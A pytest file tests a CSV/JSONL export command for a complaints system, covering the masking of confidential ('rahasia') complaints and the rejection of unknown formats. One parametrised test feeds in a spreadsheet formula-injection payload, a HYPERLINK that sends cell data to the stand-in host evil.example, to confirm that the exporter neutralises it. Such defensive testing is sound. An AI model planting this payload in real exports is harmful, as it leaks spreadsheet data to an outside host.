"""`aduan complaints export`: every complaint, rahasia words only on explicit request."""

from __future__ import annotations

import csv
import io
import json

import pytest
from typer.testing import CliRunner

from channels.base import IncomingMessage
from ingest.pipeline import Pipeline
from routing import Router
from service.cli import app
from settings.root import Settings
from store.db import Store
from tests.conftest import ROOT, Clock


@pytest.fixture
def filled(settings: Settings, store: Store, clock: Clock) -> Store:
    pipeline = Pipeline(settings, store, Router.build(settings.routing, settings.sections), clock)
    texts = ["Harga gas elpiji naik di pangkalan", "RAHASIA kepala desa meminta uang 5 juta"]
    for i, text in enumerate(texts):
        pipeline.accept(IncomingMessage("sms", f"ex:{i}", f"+6281299900{i:02d}", text, clock.now))
    return store


def export(store: Store, monkeypatch: pytest.MonkeyPatch, *extra: str) -> str:
    monkeypatch.setenv("ADUAN_DATABASE_URL", store.url)
    args = ["complaints", "export", "--config", str(ROOT / "config.yaml"), *extra]
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 0, result.output
    return result.output


def test_jsonl_has_every_complaint_and_hides_rahasia_words(
    filled: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    rows = [json.loads(line) for line in export(filled, monkeypatch).splitlines()]
    assert len(rows) == 2
    fields = {"tracking_code", "section", "status", "channel", "created_at", "text", "rules",
              "needs_triage"}  # fmt: skip
    assert fields <= set(rows[0])
    assert rows[0]["text"] == "Harga gas elpiji naik di pangkalan" and rows[0]["rules"]
    assert rows[1]["confidential"] is True and rows[1]["text"] == "[rahasia]"
    full = [
        json.loads(x) for x in export(filled, monkeypatch, "--include-confidential").splitlines()
    ]
    assert "meminta uang" in full[1]["text"]


def test_csv_export(filled: Store, monkeypatch: pytest.MonkeyPatch) -> None:
    rows = list(csv.DictReader(io.StringIO(export(filled, monkeypatch, "--format", "csv"))))
    assert len(rows) == 2 and rows[0]["section"] == "perekonomian"
    assert rows[1]["text"] == "[rahasia]"


def test_unknown_format_is_refused(filled: Store, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ADUAN_DATABASE_URL", filled.url)
    result = CliRunner().invoke(app, ["complaints", "export", "--format", "xml"])
    assert result.exit_code == 2


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_export_neutralises_formula_injection(
    settings: Settings, store: Store, clock: Clock, monkeypatch: pytest.MonkeyPatch, start: str
) -> None:
    pipeline = Pipeline(settings, store, Router.build(settings.routing, settings.sections), clock)
    text = start + 'HYPERLINK("http://evil.example/?x="&A1, "klik") jalan rusak parah'
    pipeline.accept(IncomingMessage("web", "ex:formula", "web:formula", text, clock.now))
    (row,) = csv.DictReader(io.StringIO(export(store, monkeypatch, "--format", "csv")))
    assert row["text"].startswith("'" + start)
